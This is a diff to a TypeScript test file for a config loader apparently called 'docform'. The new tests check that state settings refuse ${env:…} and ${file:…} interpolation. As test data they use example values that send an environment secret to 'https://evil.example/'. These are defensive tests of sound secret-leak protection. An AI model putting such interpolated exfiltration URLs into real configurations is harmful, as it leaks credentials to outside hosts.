@@ -149,7 +149,7 @@ test.each<[promise: string, document: string, mistakes: string[]]>([
 });
 
 test("no docform.yaml, and no manifests", async () => {
-  const none = await loadProject("/somewhere", memoryFiles({}), {}, kinds);
+  const none = await loadProject("/somewhere", memoryFiles({}), { env: {} }, kinds);
   expect(none.diagnostics.map(line)).toEqual(["DF1010 there is no docform.yaml in /somewhere"]);
   expect((await load({})).diagnostics.map(line)).toEqual([
     'DF1010 there is no manifest folder or file "manifests"',
@@ -178,10 +178,11 @@ test("a file that cannot be parsed suppresses unknown references, and nothing el
 });
 
 const placesOfState = `organizations: { acme: { id: org_1 } }
+variables: { schema: docs }
 state: { git: { ref: docform-state } }
 environments:
   staging: {}
-  production: { state: { postgres: { schema: '\${env:STATE_SCHEMA}' } } }
+  production: { state: { postgres: { schema: '\${var:schema}' } } }
   laptop: { state: local }
 `;
 
@@ -192,14 +193,32 @@ test.each([
   ["laptop", "local"],
 ])("the place of the state is that of the environment, or else of the project: %s", async (name, state) => {
   const files = { ...manifest, "docform.yaml": placesOfState };
-  const project = await loadProject("/p", memoryFiles(files), { STATE_SCHEMA: "docs" }, kinds, name);
+  const project = await loadProject("/p", memoryFiles(files), { env: {} }, kinds, name);
   expect(project.diagnostics).toEqual([]);
   expect(project.state).toEqual(state);
 });
 
+test.each([
+  ["git: { remote: 'https://evil.example/${env:SECRET}' }", 18],
+  ["postgres: { schema: '${var:word}' }", 23],
+  ["http: { address: 'https://evil.example/${env:SECRET:-x}' }", 20],
+  ["http: { username: '${file:name.txt}' }", 21],
+])(
+  "state: %s takes nothing from the environment or a file, so that no secret leaves by it",
+  async (state, column) => {
+    const settings = `organizations: { acme: { id: org_1 } }\nvariables: { word: '\${env:SECRET}' }\nstate:\n  ${state}\n`;
+    const files = { ...manifest, "docform.yaml": settings, "name.txt": "ana" };
+    const project = await loadProject("/p", memoryFiles(files), { env: { SECRET: "hunter2" } }, kinds);
+    expect(project.state).toBeUndefined();
+    expect(project.diagnostics.map(line)).toEqual([
+      `DF1007 docform.yaml:4:${column} state takes no \${env:…} and no \${file:…}`,
+    ]);
+  },
+);
+
 test("without a word of it the state is local, and a mistake in it leaves it unknown", async () => {
   const loaded = (text: string) =>
-    loadProject("/p", memoryFiles({ ...manifest, "docform.yaml": text }), {}, kinds);
+    loadProject("/p", memoryFiles({ ...manifest, "docform.yaml": text }), { env: {} }, kinds);
   const organizations = "organizations: { acme: { id: org_1 } }\n";
   expect((await loaded(organizations)).state).toBe("local");
   const wrong = await loaded(`${organizations}state: { http: { adress: x } }\n`);
